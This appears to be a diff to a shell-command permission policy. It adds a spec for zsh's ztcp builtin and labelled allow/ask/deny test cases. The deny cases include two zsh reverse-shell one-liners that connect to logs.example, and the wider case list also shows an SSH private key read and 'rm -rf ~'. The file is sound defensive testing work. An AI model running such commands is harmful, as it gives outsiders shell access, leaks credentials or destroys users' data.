@@ -65,7 +65,18 @@ NU = command(
     traits="starts-up",
 )
 
+ZTCP = command(
+    "ztcp",
+    "CONNECTS? PLAIN?",
+    [flags("-f -v -t"), option("-d", PLAIN), option("-l", LISTENS), option("-a -c", PLAIN), flag("-L", informs=True)],
+    style=EARLY,
+)
+
 CASES = """
+deny   zsh -c 'zmodload zsh/net/tcp; ztcp logs.example 443 && sh <&$REPLY >&$REPLY'
+deny   zsh -c 'zmodload zsh/net/tcp; ztcp -d 7 logs.example 443; zsh -i <&7 >&7 2>&7'
+allow  zsh -c 'zmodload zsh/datetime; echo $EPOCHSECONDS'
+ask    zsh -c 'zmodload ./native'
 allow  nu -n -c 'open Cargo.toml | get package.version'
 ask    nu -c 'open /home/user/.ssh/id_rsa | lines | first'
 deny   nu -c 'ls | get name; rm -rf ~'
